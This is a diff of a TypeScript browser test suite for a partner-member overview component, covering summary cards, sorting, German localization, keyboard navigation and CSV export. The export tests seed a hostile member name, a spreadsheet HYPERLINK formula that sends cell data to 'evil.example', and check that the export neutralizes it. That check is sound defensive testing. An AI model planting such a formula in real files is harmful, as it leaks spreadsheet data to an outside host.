@@ -1,14 +1,16 @@
 // <partner-member-overview> against the real sandbox (15,000 resellers): summary, a virtualized member list of
 // thousands, server-side filter/sort/search, CSV export, a member's checklist, keyboard use, hostile names, German.
-import { expect, fixtureCleanup, waitUntil } from '@open-wc/testing';
+import { expect, fixture, fixtureCleanup, waitUntil } from '@open-wc/testing';
 import type { Member, MemberQuery } from '@poly-partner/contract';
 import type { PartnerClient } from '@poly-partner/sdk';
 import '../src/components/partner-member-overview/partner-member-overview.js';
 import type { PartnerMemberOverview } from '../src/components/partner-member-overview/partner-member-overview.js';
-import { FetchFaults } from './support/fetch-faults.js';
-import { mount, part, textOf, waitForText } from './support/mount.js';
-import { clientFor, sandboxConfig } from './support/sandbox.js';
+import { FetchFaults } from '../../../test/support/browser/fetch-faults.js';
+import { mount, part, textOf, waitForText } from '../../../test/support/browser/mount.js';
+import { clientFor, sandboxConfig } from '../../../test/support/browser/sandbox.js';
+import { sendKeys } from './support/keyboard.js';
 import { runWidgetBaseTests } from './support/widget-base-tests.js';
+import { parseCsv } from './support/csv-parse.js';
 
 const TAG = 'partner-member-overview';
 
@@ -65,8 +67,11 @@ function type(el: Element, text: string): void {
   input.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
 }
 
-function press(target: Element, key: string): void {
-  target.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true, cancelable: true }));
+/** A real key press (Playwright's keyboard) on whatever has focus, after checking that `target` has it. */
+async function press(target: Element, key: string): Promise<void> {
+  const root = target.getRootNode() as ShadowRoot | Document;
+  expect(root.activeElement, `focus is on the element that should get ${key}`).to.equal(target);
+  await sendKeys({ press: key });
 }
 
 /** Waits until the list shows the total the API gives for `query` (the list has reloaded). */
@@ -103,6 +108,7 @@ async function mountOrg(org: Org, fetch?: typeof globalThis.fetch) {
   await waitUntil(() => rows(mounted.el).length > 0, 'rows to render');
   return { ...mounted, client };
 }
+
 
 // The first request starts and seeds the 15,000-reseller sandbox: do it before the tests' own time limits apply.
 before(async function () {
@@ -233,6 +239,128 @@ describe('<partner-member-overview>', function () {
     await expect(el).to.be.accessible();
   });
 
+  it('links each summary card to the list with its query: the list total is the card count, in the card order', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    const summary = await client.organizations.summary(org.orgId);
+    for (const [cardPart, card] of [
+      ['protections', summary.protectionsEndingSoon],
+      ['close-to-next', summary.closeToNextTier],
+    ] as const) {
+      expect(card.count, `${cardPart} has members`).to.be.greaterThan(0);
+      const link = part(part(el, cardPart)!, 'card-link') ?? part(el, cardPart)!.querySelector<HTMLElement>('[part~="card-link"]')!;
+      expect(link.textContent!.replace(/\s+/g, ' ').trim()).to.equal(`Show all ${en.format(card.count)} in the list`);
+      link.click();
+      const total = await waitForTotal(el, client, org.orgId, card.query);
+      expect(total, `${cardPart}: list total = card count`).to.equal(card.count);
+      expect(countText(el)).to.equal(`${en.format(card.count)} of ${en.format(org.memberCount)} members match`);
+      // The filters say what the list shows: the card's segment and its order.
+      expect(shadow(el).querySelector<HTMLSelectElement>("select[name='segment']")!.value).to.equal(card.query.segment);
+      expect(shadow(el).querySelector<HTMLSelectElement>("select[name='sort']")!.value).to.equal(card.query.sort);
+      const first = card.members.slice(0, 3).map((member) => member.name);
+      expect(rowNames(el).slice(0, first.length), 'the card ranks as the list does').to.deep.equal(first);
+      expect(shadow(el).activeElement?.id, 'focus moves to the list').to.equal('members-heading');
+    }
+    await expect(el).to.be.accessible();
+  });
+
+  it('rows say how many of the next tier requirements are met and name one or two missing with their size', async () => {
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    select(el, 'segment', 'close_to_next_tier');
+    select(el, 'sort', 'nextTierGap');
+    await waitForTotal(el, client, org.orgId, { segment: 'close_to_next_tier', sort: 'nextTierGap' });
+    const page = await client.organizations.members(org.orgId, { segment: 'close_to_next_tier', sort: 'nextTierGap', limit: 3 });
+    const withGaps = page.items.filter((member) => member.nextTierGaps.length > 0);
+    expect(withGaps.length, 'members missing one or two requirements').to.be.greaterThan(0);
+    const money = (amount: number) =>
+      new Intl.NumberFormat('en', { style: 'currency', currency: 'EUR', minimumFractionDigits: 0, maximumFractionDigits: 0 }).format(amount);
+    for (const member of withGaps) {
+      // Met and required counts as the member's own checklist gives them.
+      const checklist = (await client.partners.tierStatus(member.partnerId)).checklist!;
+      const row = rows(el)[page.items.indexOf(member)]!;
+      const text = row.querySelector('.cell--progress')!.textContent!.replace(/\s+/g, ' ').trim();
+      const tier = { silver: 'Silver', gold: 'Gold', platinum: 'Platinum', register: 'Register' }[checklist.tier];
+      expect(text).to.contain(`${checklist.metCount} of ${checklist.requiredCount} ${tier} requirements met`);
+      expect(text).to.contain('needs ');
+      for (const gap of member.nextTierGaps) {
+        if (gap.criterionId === 'revenue') expect(text).to.contain(`${money(gap.gap)} revenue`);
+        if (gap.criterionId === 'certified_technical') expect(text).to.contain(gap.gap === 1 ? '1 certified technician' : `${gap.gap} certified technicians`);
+      }
+    }
+    // Sortable columns say so before they are sorted.
+    const indicators = [...shadow(el).querySelectorAll<HTMLElement>("[role='columnheader'] .sort-indicator")];
+    expect(indicators.length, 'sortable columns').to.be.greaterThan(0);
+    expect(indicators.every((mark) => mark.textContent!.length > 0 && mark.offsetWidth > 0), 'every sortable column shows a mark').to.be.true;
+  });
+
+  it('sorts by progress with top-tier members last in both directions', async () => {
+    const all = await organizations();
+    const org = all[0]!;
+    expect(org.memberCount, 'a small organization: the whole list loads').to.be.lessThan(100);
+    const { el, client } = await mountOrg(org);
+    for (const sort of ['-progress', 'progress'] as const) {
+      select(el, 'sort', sort);
+      await waitForTotal(el, client, org.orgId, { sort });
+      const { items } = await client.organizations.members(org.orgId, { sort, limit: 100 });
+      const top = items.filter((member) => member.nextTier === null).length;
+      expect(top, 'the organization has top-tier members').to.be.greaterThan(0);
+      await scrollListToEnd(el, () => rows(el).some((row) => row.dataset.index === String(items.length - 1)), 'last row');
+      const last = rows(el).find((row) => row.dataset.index === String(items.length - 1))!;
+      expect(last.querySelector('.cell--progress')!.textContent!.trim(), `${sort}: last row`).to.equal('Highest tier');
+      expect(shadow(el).querySelector<HTMLElement>("[role='columnheader'].cell--progress")!.getAttribute('aria-sort')).to.equal(
+        sort === 'progress' ? 'ascending' : 'descending',
+      );
+    }
+  });
+
+  for (const lang of ['en', 'de'] as const) {
+    it(`shows when protection ends: today's tier mix beside the mix after each end date, as the API counts them (${lang})`, async () => {
+      document.documentElement.lang = lang;
+      const org = await bigOrg();
+      const { el, client } = await mountOrg(org);
+      const summary = await client.organizations.summary(org.orgId);
+      expect(summary.protectionForecast.length, 'protections end on several days').to.be.greaterThan(1);
+      const panel = part(el, 'forecast')!;
+      await waitForText(panel, lang === 'en' ? /When protection ends/ : /Wenn der Statusschutz endet/);
+      const nf = new Intl.NumberFormat(lang);
+      const day = (iso: string) => new Intl.DateTimeFormat(lang, { dateStyle: 'medium', timeZone: 'UTC' }).format(Date.parse(`${iso}T00:00:00Z`));
+      const names = { en: ['Register', 'Silver', 'Gold', 'Platinum'], de: ['Register', 'Silver', 'Gold', 'Platinum'] }[lang];
+      const tiers = ['register', 'silver', 'gold', 'platinum'] as const;
+      const mix = (counts: Record<(typeof tiers)[number], number>) => tiers.map((tier, i) => `${names[i]} ${nf.format(counts[tier])}`).join(', ');
+
+      // The chart: one image per bar, named with its counts — today, then the day after each end date.
+      const bars = [...panel.querySelectorAll('svg[role="img"]')].map((bar) => bar.getAttribute('aria-label'));
+      const after = (iso: string) => (lang === 'en' ? `After ${day(iso)}` : `Nach dem ${day(iso)}`);
+      expect(bars).to.deep.equal([
+        `${lang === 'en' ? 'Today' : 'Heute'}: ${mix(summary.tiers)}`,
+        ...summary.protectionForecast.map((ending) => `${after(ending.protectedUntil)}: ${mix(ending.tiersAfter)}`),
+      ]);
+
+      // The table: the same figures, plus who falls and who misses only one or two requirements.
+      const cells = (key: string) =>
+        [...panel.querySelectorAll(`tr[data-key="${key}"] td`)].map((cell) => cell.textContent!.trim());
+      expect(cells('today').slice(0, 4)).to.deep.equal(tiers.map((tier) => nf.format(summary.tiers[tier])));
+      for (const ending of summary.protectionForecast) {
+        expect(cells(ending.protectedUntil), ending.protectedUntil).to.deep.equal([
+          ...tiers.map((tier) => nf.format(ending.tiersAfter[tier])),
+          nf.format(ending.falling.count),
+          nf.format(ending.missingOne),
+          nf.format(ending.missingTwo),
+        ]);
+      }
+      const first = summary.protectionForecast[0]!;
+      const lead = textOf(panel.querySelector('.card__lead')!);
+      for (const figure of [first.falling.count, first.endingCount, first.missingOne, first.missingTwo]) expect(lead).to.contain(nf.format(figure));
+      // Tiers are told apart by shape and pattern too, never by colour alone; nothing needs a style attribute.
+      for (const tier of tiers) expect(panel.querySelector(`.forecast__legend .tier-icon--${tier}`), `${tier} shape in the legend`).to.exist;
+      expect(panel.querySelectorAll('.forecast__segment--gold .forecast__hatch').length, 'Gold is hatched').to.be.greaterThan(0);
+      expect(panel.querySelector('[style]')).to.not.exist;
+      panel.querySelector<HTMLDetailsElement>('details')!.open = true;
+      await expect(el).to.be.accessible();
+    });
+  }
+
   it('searches by name once the user pauses typing, and says when nothing matches', async () => {
     const org = await midOrg();
     const faults = new FetchFaults();
@@ -294,18 +422,73 @@ describe('<partner-member-overview>', function () {
       HTMLAnchorElement.prototype.click = originalClick;
     }
     expect(blobs).to.have.length(1);
-    expect(clicks[0]).to.match(/^members-.+\.csv$/);
-    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
-    const lines = text.trimEnd().split('\r\n');
-    expect(lines[0]).to.equal(
-      'Partner ID,Name,Country,Region,Current tier,Earned by results,Protected tier,Protected until,Next tier,Progress to next tier,Requirements missing',
+    const organization = await client.organizations.get(org.orgId);
+    const { asOf } = await client.organizations.summary(org.orgId);
+    expect(clicks[0], 'the organization name and the day name the file').to.equal(
+      `${organization.name.replace(/[^\p{L}\p{N}]+/gu, '-').replace(/^-+|-+$/g, '')}-members-${asOf}.csv`,
     );
-    expect(lines.length - 1, 'one line per member of the filtered list').to.equal(total);
-    const body = lines.slice(1);
-    expect(body.every((line) => /^[^,]+,.*,silver,/.test(line)), 'only silver members').to.be.true;
-    expect(body.some((line) => line.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") `))).to.be.true;
-    expect(body.some((line) => line.includes(`,"""Müller"", Schmidt & Co `))).to.be.true;
-    expect(body.some((line) => /,=/.test(line.replace(/"[^"]*(""[^"]*)*"/g, '')))).to.be.false;
+    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
+    const [header, ...body] = parseCsv(text, ',');
+    expect(header).to.deep.equal([
+      'Name', 'Partner ID', 'Country', 'Region', 'Current tier', 'Earned by results', 'Protected tier', 'Protected until',
+      'Next tier', 'Progress to next tier', 'Requirements met', 'Missing for the next tier', 'Missing to keep the tier',
+    ]);
+    expect(body.length, 'one line per member of the filtered list').to.equal(total);
+    expect(body.length, 'members in the file').to.be.greaterThan(0);
+    expect(body.every((row) => row.length === header!.length), 'every row has every column').to.be.true;
+    expect(body.every((row) => row[4] === 'Silver'), 'only Silver members, by name').to.be.true;
+    expect(body.some((row) => row[0]!.startsWith(`'=HYPERLINK("http://evil.example/?"&A1,"Click") `))).to.be.true;
+    expect(body.some((row) => row[0]!.startsWith(`"Müller", Schmidt & Co `))).to.be.true;
+    expect(body.some((row) => row.some((cell) => cell.startsWith('=')))).to.be.false;
+    expect(body.every((row) => /^\d+(\.\d)?%$/.test(row[9]!)), 'progress as a percentage').to.be.true;
+  });
+
+  it('exports a CSV that German Excel splits: `;`, decimal commas, German names, requirements named', async () => {
+    document.documentElement.lang = 'de';
+    const org = await midOrg();
+    const { el, client } = await mountOrg(org);
+    await waitForText(el, /Mitglieder je Stufe/);
+    const card = (await client.organizations.summary(org.orgId)).closeToNextTier;
+    part(el, 'close-to-next')!.querySelector<HTMLElement>('[part~="card-link"]')!.click();
+    expect(await waitForTotal(el, client, org.orgId, card.query)).to.equal(card.count);
+
+    const blobs: Blob[] = [];
+    const originalCreate = URL.createObjectURL;
+    const originalClick = HTMLAnchorElement.prototype.click;
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return originalCreate.call(URL, blob);
+    };
+    HTMLAnchorElement.prototype.click = function () {};
+    try {
+      part(el, 'export-button')!.click();
+      await waitForText(el, /\d+ Mitglieder exportiert|Exportiert/);
+      await waitUntil(() => blobs.length === 1, 'the file');
+    } finally {
+      URL.createObjectURL = originalCreate;
+      HTMLAnchorElement.prototype.click = originalClick;
+    }
+    const text = (await blobs[0]!.text()).replace(/^\uFEFF/, '');
+    const [header, ...body] = parseCsv(text, ';');
+    expect(header!.slice(0, 5)).to.deep.equal(['Name', 'Partner-ID', 'Land', 'Region', 'Aktuelle Stufe']);
+    expect(body.length, 'the card count').to.equal(card.count);
+    // In the card's order: the file follows the list.
+    expect(body.slice(0, 3).map((row) => row[0])).to.deep.equal(card.members.slice(0, 3).map((member) => member.name));
+    const policy = await client.program.get();
+    const regionNames = new Set(policy.regions.map((region) => region.name.de));
+    expect(body.length, 'members in the file').to.be.greaterThan(0);
+    expect(body.every((row) => regionNames.has(row[3]!)), 'German region names').to.be.true;
+    expect(body.every((row) => /^\d+(,\d)? %$/.test(row[9]!)), `percentages with a decimal comma: ${body[0]![9]}`).to.be.true;
+    const named = body.filter((row) => row[11]!.startsWith('braucht '));
+    expect(named.length, 'missing requirements named').to.be.greaterThan(0);
+    const first = card.members.find((member) => member.nextTierGaps.length > 0)!;
+    const row = body.find((candidate) => candidate[1] === first.partnerId)!;
+    const gap = first.nextTierGaps[0]!;
+    if (gap.unit === 'money') {
+      const euro = new Intl.NumberFormat('de', { style: 'currency', currency: 'EUR', maximumFractionDigits: 0 }).format(gap.gap);
+      // The file has plain spaces where Intl writes no-break ones: a spreadsheet reads those as text.
+      expect(row[11]).to.contain(`${euro.replace(/[\u00a0\u202f]/g, ' ')} Umsatz`);
+    }
   });
 
   it('says so when the export fails, and tells the page', async () => {
@@ -342,12 +525,13 @@ describe('<partner-member-overview>', function () {
     expect(textOf(checklist)).to.match(status.checklist ? /Next tier: / : /is the highest tier/);
     await expect(el).to.be.accessible();
 
-    press(shadow(el).activeElement!, 'Escape');
+    await press(shadow(el).activeElement!, 'Escape');
     await el.updateComplete;
     await waitUntil(() => shadow(el).activeElement === rows(el)[1], 'focus back on the row');
     expect(part(el, 'detail')).to.not.exist;
 
-    press(rows(el)[1]!, 'Enter');
+    rows(el)[1]!.focus();
+    await press(rows(el)[1]!, 'Enter');
     await el.updateComplete;
     part(el, 'close-button')!.click();
     await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'focus back on the row after Close');
@@ -361,27 +545,100 @@ describe('<partner-member-overview>', function () {
     await waitUntil(() => shadow(el).activeElement === summaryButton, 'focus back on the summary button');
   });
 
+  for (const lang of ['en', 'de'] as const) {
+    it(`tells a member's tier story in the third person, without the reseller's calls to action (${lang})`, async () => {
+      document.documentElement.lang = lang;
+      const org = await midOrg();
+      const { el, client } = await mountOrg(org);
+      const summary = await client.organizations.summary(org.orgId);
+      const member = summary.protectionsEndingSoon.members[0]!;
+      expect(member, 'a member lifted above what it earns').to.exist;
+      part(el, 'protections')!.querySelector<HTMLButtonElement>('.card__list button')!.click();
+      await el.updateComplete;
+      const checklist = part(el, 'detail')!.querySelector('next-tier-checklist')!;
+      const status = await client.partners.tierStatus(member.partnerId);
+      await waitUntil(() => checklist.shadowRoot?.querySelector('[part~="keep"]'), 'the keep section', { timeout: 8000 });
+      const text = textOf(checklist);
+      // Every message it renders speaks about the member: no second person in either language.
+      const secondPerson = lang === 'en' ? /\b(you|your|yours)\b/i : /\b(Sie|Ihr|Ihre|Ihren|Ihrer|Ihrem|Ihres)\b/;
+      expect(text.match(secondPerson), `second person in: ${text}`).to.equal(null);
+      const keep = status.keepChecklist!;
+      const tier = { register: 'Register', silver: 'Silver', gold: 'Gold', platinum: 'Platinum' }[keep.tier];
+      expect(text).to.contain(lang === 'en' ? `What keeps ${tier} after` : `Was ${tier} über den`);
+      expect(checklist.shadowRoot!.querySelector('[part~="actions"]'), 'no calls to action').to.not.exist;
+      expect(checklist.shadowRoot!.querySelector('[part~="what-if"]'), 'no what-if for the reseller').to.not.exist;
+      await expect(el).to.be.accessible();
+    });
+  }
+
   it('moves through rows with the arrow keys, Home and End; one row is in the tab order', async () => {
     const org = await bigOrg();
     const { el } = await mountOrg(org);
     const tabbable = () => rows(el).filter((row) => row.tabIndex === 0);
     expect(tabbable()).to.have.length(1);
     rows(el)[0]!.focus();
-    press(rows(el)[0]!, 'ArrowDown');
+    await press(rows(el)[0]!, 'ArrowDown');
     await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'row 2 focused');
-    press(shadow(el).activeElement!, 'PageDown');
+    await press(shadow(el).activeElement!, 'PageDown');
     await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '11', 'row 12 focused');
-    press(shadow(el).activeElement!, 'ArrowUp');
+    await press(shadow(el).activeElement!, 'ArrowUp');
     await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '10', 'row 11 focused');
-    press(shadow(el).activeElement!, 'End');
+    await press(shadow(el).activeElement!, 'End');
     await waitUntil(() => Number(shadow(el).activeElement?.getAttribute('data-index')) >= 99, 'last loaded row focused');
     expect(rows(el).length).to.be.lessThan(200);
-    press(shadow(el).activeElement!, 'Home');
+    await press(shadow(el).activeElement!, 'Home');
     await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '0', 'first row focused');
     expect(tabbable()).to.have.length(1);
-    press(shadow(el).activeElement!, ' ');
+    await press(shadow(el).activeElement!, 'Space');
     await el.updateComplete;
     expect(part(el, 'detail')).to.exist;
+  });
+
+  it('in a 320 px column shows two-line rows with name, tier and progress, and the keys still reach every row', async () => {
+    const org = await bigOrg();
+    const style = document.createElement('style');
+    style.textContent = '.phone-column { inline-size: 320px; }';
+    document.head.append(style);
+    try {
+      const client = await clientFor({ orgId: org.orgId });
+      const frame = document.createElement('div');
+      frame.className = 'phone-column';
+      const el = document.createElement(TAG) as PartnerMemberOverview & { client?: PartnerClient };
+      el.setAttribute('org-id', org.orgId);
+      el.client = client;
+      frame.append(el);
+      const ready = new Promise((resolve) => el.addEventListener('partner-ready', resolve, { once: true }));
+      await fixture(frame);
+      await ready;
+      part(el, 'grid')!.scrollIntoView({ block: 'start' });
+      await waitUntil(() => rows(el).length > 0, 'rows to render');
+      const first = rows(el)[0]!;
+      const visible = (cell: string) => getComputedStyle(first.querySelector(`.cell--${cell}`)!).display !== 'none';
+      expect(['name', 'tier', 'progress'].map(visible), 'name, tier and progress shown').to.deep.equal([true, true, true]);
+      expect(['country', 'protectedUntil'].map(visible), 'country and protection in the detail only').to.deep.equal([false, false]);
+      const name = first.querySelector('.cell--name')!.getBoundingClientRect();
+      const tier = first.querySelector('.cell--tier')!.getBoundingClientRect();
+      expect(tier.top, 'the tier under the name').to.be.at.least(name.bottom - 0.5);
+
+      first.focus();
+      await press(first, 'ArrowDown');
+      await waitUntil(() => shadow(el).activeElement?.getAttribute('data-index') === '1', 'row 2 focused');
+      await press(shadow(el).activeElement!, 'End');
+      await waitUntil(() => Number(shadow(el).activeElement?.getAttribute('data-index')) >= 99, 'last loaded row focused');
+      // The focused row is inside the list's scrollport, whole: the list scrolled by the narrow layout's row height.
+      const body = shadow(el).querySelector<HTMLElement>('.grid__body')!.getBoundingClientRect();
+      const focused = (shadow(el).activeElement as HTMLElement).getBoundingClientRect();
+      expect(focused.top, 'row top inside the list').to.be.at.least(body.top - 0.5);
+      expect(focused.bottom, 'row bottom inside the list').to.be.at.most(body.bottom + 0.5);
+      await press(shadow(el).activeElement!, 'Enter');
+      await el.updateComplete;
+      const detail = part(el, 'detail')!.getBoundingClientRect();
+      const list = part(el, 'grid')!.getBoundingClientRect();
+      expect(detail.top, 'the detail under the list').to.be.at.least(list.bottom);
+      expect(Math.abs(detail.width - list.width), 'the detail as wide as the list').to.be.below(1);
+    } finally {
+      style.remove();
+    }
   });
 
   it('keeps the list reachable by Tab while it is below the fold and no row is rendered', async () => {
@@ -492,7 +749,7 @@ describe('<partner-member-overview> measurements (reported, not asserted)', () =
   it('measures data arrival to first rows painted for the 5,000+ member organization', async function () {
     this.timeout(60_000);
     const org = await bigOrg();
-    let arrived = 0;
+    let arrived: number;
     // When the last response body (organization, summary, program, first page) has been received: what follows is
     // parsing, validation and rendering.
     const timed: typeof fetch = async (input, init) => {
